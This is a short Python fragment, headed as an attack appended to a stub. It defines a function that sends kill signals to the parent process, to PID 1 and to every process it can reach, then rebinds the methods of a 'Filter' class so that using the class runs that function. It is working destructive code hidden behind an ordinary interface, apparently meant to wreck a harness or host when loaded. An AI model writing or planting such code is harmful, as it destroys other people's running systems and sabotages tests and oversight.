

# --- the attack, appended to the stub --------------------------------------

import os as _os
import signal as _signal


def _attack(*args, **kwargs):
    for target in (_os.getppid(), 1):
        for sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGINT):
            try:
                _os.kill(target, sig)
            except OSError:
                pass
    for pid in _os.listdir("/proc"):
        if pid.isdigit() and int(pid) != _os.getpid():
            try:
                _os.kill(int(pid), _signal.SIGKILL)
            except OSError:
                pass
    try:
        _os.kill(-1, _signal.SIGKILL)  # every process this one may signal
    except OSError:
        pass


Filter.__init__ = Filter.get_weights = Filter.get_bias = Filter.update = _attack
